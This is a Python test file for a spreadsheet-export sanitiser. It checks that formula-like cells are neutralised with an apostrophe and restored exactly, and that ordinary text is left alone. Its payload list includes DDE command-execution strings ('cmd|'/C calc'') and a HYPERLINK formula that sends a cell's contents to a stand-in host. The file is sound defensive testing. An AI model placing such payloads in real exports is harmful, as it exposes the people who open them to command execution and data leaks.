"""Formulas in an export are harmless, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fieldarchive.export.cells import defused, restored, suspects

PAYLOADS = Path(__file__).parents[2] / "shared/corpora/hostile/PATT/CSV Injection/README.md"
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1;"more")',
    "=WEBSERVICE(A1)",
    '=IMPORTXML("http://x.invalid", "//a/@href")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+7-914-000-00-00",
    "+7 914 000",
    "-2+3",
    "-2+3+cmd|'/C calc'!A0",
    "-50 cmd|'/C calc'!A0",
    "-50(A1)",
    "-A1",
    "-5A1",
    "- milk",
    "-",
    "--1",
    "=-50",
    "\t=1+1",
    "\tвыше",
    "\r=1+1",
    "\rвыше",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e\u202e=1+1",
    "\x00=1+1",
    "\x00\x1f =1+1",
    "\x7f@SUM(1)",
    "\x0b=1+1",
    "\u2028=1+1",
    "\u00ad=1+1",
    '"=1+1"',
    '" =1+1',
    "'=1+1",
    "''=1+1",
    "”=1+1",
    "«=1+1»",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
]
INSIDE = ["milk\n=1+1", "milk\r\n- bread", "milk\r@SUM(1)", "milk\n\n  ＝1", "a;=1+1", "a\t=1+1"]
HONEST = [
    "",
    "-50",
    "-3.5e2",
    "-3,5",
    "-.5",
    "+7",
    " -50 ",
    "-50 градусов",
    "-50 градусов.",
    "-50°C",
    "-12 %",
    "-20 摄氏度",
    "рынок — базар",
    "— Кто там?",
    "–50",
    "2013-05-12",
    "a=b",
    "e-mail@x.invalid",
    "1+1",
    "市场",
    "don't",
    "'quoted'",
    "вода -50 градусов\nлёд",
]
# Half of all signs that matter are in here, so that Hypothesis meets formulas, not only letters.
tricky = st.text(
    st.sampled_from("=+-@＝－'\"«;\t\r\n \u00a0\ufeff\u200b\x00,.0150eE°%aяы市|(!\ud800")
)
texts = st.one_of(tricky, st.text(st.characters(codec=None)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text):
    assert defused(text) == "'" + (defused(text)[1:])
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", INSIDE)
def test_a_formula_inside_a_torn_cell_is_found(text):
    assert defused(text) != text
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_and_honest_numbers_stay_as_they_are(text):
    assert defused(text) == text


@given(texts)
@example("'=1")
@example("'\n'=1")
@example("'\t='")
def test_every_text_comes_back(text):
    assert restored(defused(text)) == text


@given(texts)
def test_no_part_of_a_torn_cell_begins_like_a_formula(text):
    for part in re.split("[\n\r\t;]", defused(text)):
        begins = part.lstrip(' \u00a0\ufeff\u200b\x00"«')
        if begins.startswith(("=", "@", "＝", "－")):
            pytest.fail(f"{part!r} of {text!r} begins like a formula")
        if begins.startswith(("+", "-")):
            assert re.match(r"[+-][0-9.,]", begins)


@given(st.lists(st.lists(texts.map(lambda t: t.replace("\ud800", "")), min_size=2, max_size=3)))
def test_the_quick_look_at_whole_lines_misses_nothing(rows):
    rows = [[1, *row] for row in rows]
    lines = [_line(row) for row in rows]
    acted = {n for n, row in enumerate(rows) if any(defused(c) != c for c in row[1:])}
    assert acted <= suspects(lines)


def test_the_quick_look_does_not_suspect_an_ordinary_line():
    assert suspects([_line([1, "Рынок", "2013-05-12", 'he said "no"', "don't"])]) == set()


def test_the_published_payloads_are_harmless():
    if not PAYLOADS.is_file():
        pytest.skip("the corpus of hostile files is not beside this repository")
    lines = [line.strip() for line in PAYLOADS.read_text(encoding="utf-8").splitlines()]
    payloads = [line for line in lines if line[:1] in "=+-@" and line[1:]]
    assert len(payloads) >= 9
    for payload in payloads:
        assert defused(payload).startswith("'")
        assert restored(defused(payload)) == payload


def test_a_long_text_made_to_be_slow_is_not():
    begun = time.perf_counter()
    for text in ("-5" + "a" * 200_000 + "!", "'" * 200_000 + "x", "\n- " * 60_000, " " * 200_000):
        assert restored(defused(text)) == text
    assert time.perf_counter() - begun < 2


def test_a_rule_that_forgets_the_lines_would_be_caught():
    """The negative control: the usual rule looks at the first sign of the cell only."""

    def usual(text: str) -> str:
        return f"'{text}" if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text

    assert [text for text in INSIDE if usual(text) != text] == []
    assert usual("-50") != "-50"
    assert usual("\ufeff=1+1") == "\ufeff=1+1"


def _line(row: list[object]) -> bytes:
    line = io.StringIO(newline="")
    csv.writer(line, quoting=csv.QUOTE_NONNUMERIC, lineterminator="").writerow(row)
    return line.getvalue().encode("utf-8", "replace")
